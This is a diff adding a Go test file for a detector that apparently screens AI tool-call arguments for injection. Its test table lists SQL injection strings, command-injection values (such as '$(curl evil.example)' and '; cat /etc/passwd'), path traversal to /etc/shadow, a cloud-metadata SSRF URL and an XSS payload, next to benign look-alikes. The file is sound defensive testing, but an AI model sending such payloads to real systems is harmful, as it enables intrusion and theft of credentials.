@@ -1,0 +1,94 @@
+package args_test
+
+import (
+	"encoding/json"
+	"testing"
+
+	"durward/internal/guard/args"
+)
+
+func top(t *testing.T, tool string, a map[string]any, formats map[string]string) args.Finding {
+	t.Helper()
+	raw, err := json.Marshal(a)
+	if err != nil {
+		t.Fatal(err)
+	}
+	found, whole := args.Inspect(tool, raw, formats)
+	if !whole {
+		t.Errorf("%s: not wholly inspected", raw)
+	}
+	var best args.Finding
+	for _, f := range found {
+		if f.Score > best.Score {
+			best = f
+		}
+	}
+	return best
+}
+
+func TestInspect(t *testing.T) {
+	cases := []struct {
+		tool, field, value, rule string // no rule: below 0.7
+	}{
+		{"get_user", "id", "1' OR '1'='1", "sqli"},
+		{"get_user", "id", "1%27%20OR%201%3D1--", "sqli"},
+		{"get_user", "id", "1 UN/**/ION SEL/**/ECT 1", ""},
+		{"get_user", "id", "-1 union/**/select/**/1,password/**/from/**/users", "sqli"},
+		{"search", "query", "select the best union for a garden hose", ""},
+		{"search", "query", "O'Reilly books or magazines", ""},
+		{"execute_sql", "query", "SELECT a FROM t WHERE x = 1 OR 1 = 1", ""},
+		{"execute_sql", "query", "SELECT 1; DROP TABLE users", "sqli"},
+		{"create_issue", "body", "the query `' OR 1=1 --` is not escaped", ""},
+		{"ping", "host", "example.org; cat /etc/passwd", "command"},
+		{"ping", "host", "example.org", ""},
+		{"ping", "host", "-oProxyCommand=id", "command"},
+		{"run_command", "command", "git log | head; ls", ""},
+		{"resize", "filename", "a.png`id`", "command"},
+		{"resize", "filename", "Holiday & family (2024).png", ""},
+		{"report", "target", "$(curl evil.example)", "command"},
+		{"report", "target", "c''at /etc/hostname", "command"},
+		{"read_file", "path", "../../etc/shadow", "traversal"},
+		{"read_file", "path", "..%2f..%2fsecret", "traversal"},
+		{"read_file", "path", "docs/guide.md", ""},
+		{"read_file", "path", "test", ""},
+		{"fetch", "url", "http://169.254.169.254/latest/meta-data/", "address"},
+		{"fetch", "url", "http://2852039166/", "address"},
+		{"fetch", "url", "file:///etc/hosts", ""}, // set below
+		{"fetch", "url", "https://example.org/a?b=c", ""},
+		{"set_title", "title", "<img src=x onerror=alert(1)>", "script"},
+		{"set_title", "title", "Results for <3 and >2", ""},
+	}
+	for _, c := range cases {
+		f := top(t, c.tool, map[string]any{c.field: c.value}, nil)
+		got := f.Rule
+		if f.Score < 0.7 {
+			got = ""
+		}
+		if c.value == "file:///etc/hosts" {
+			if got == "" {
+				t.Errorf("%s.%s = %q passes", c.tool, c.field, c.value)
+			}
+			continue
+		}
+		if got != c.rule {
+			t.Errorf("%s.%s = %q: %+v, want %q", c.tool, c.field, c.value, f, c.rule)
+		}
+	}
+}
+
+func TestSchemaTypesFields(t *testing.T) {
+	v := map[string]any{"where": "http://127.0.0.1:9000/"}
+	if f := top(t, "call", v, nil); f.Score >= 0.7 {
+		t.Errorf("an untyped field: %+v", f)
+	}
+	if f := top(t, "call", v, map[string]string{"/where": "uri"}); f.Rule != "address" {
+		t.Errorf("a field of format uri: %+v", f)
+	}
+}
+
+func TestNestedLeavesAreSeen(t *testing.T) {
+	v := map[string]any{"a": []any{map[string]any{"id": "1' UNION SELECT password FROM users--"}}}
+	if f := top(t, "get", v, nil); f.Rule != "sqli" || f.Where != "/a/0/id" {
+		t.Errorf("found %+v", f)
+	}
+}
